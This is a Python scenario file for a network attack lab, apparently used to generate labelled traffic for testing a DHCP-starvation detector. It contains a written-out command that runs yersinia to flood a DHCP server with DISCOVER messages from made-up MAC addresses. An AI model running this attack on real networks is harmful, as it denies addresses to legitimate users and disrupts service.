"""yersinia floods a DHCP server with DISCOVER messages."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.link.throttle import throttle


def run(net: Range) -> None:
    attacker, server = net.inside("attacker"), net.inside("dhcp")
    laptop = net.inside("laptop", address=False)
    servers.leases(server, "10.20.0.200", "10.20.0.245", "10.20.0.1")
    throttle(attacker, 500)
    net.everyday()
    laptop.run("udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", "/bin/true", check=False)
    with net.attack(
        "dhcp-starvation",
        by=attacker,
        attacker_known=False,
        victims=[server],
        frames="udp dst port 67",
        responses="udp src port 67 or (arp and ether src " + server.mac + ")",
    ):
        # It goes on as long as its input does.
        net.tool(attacker, "sh", "-c", "sleep 2.5 | yersinia dhcp -attack 1 -interface eth0", seconds=8)
    net.quiet(4)


SCENARIO = Scenario(
    name="dhcp-starvation-yersinia",
    about="yersinia floods a DHCP server with DISCOVER messages from made-up MAC addresses.",
    detectors=("dhcp-starvation",),
    tools={"yersinia": "yersinia", "udhcpc": "busybox"},
    snap_octets=400,
    run=run,
)
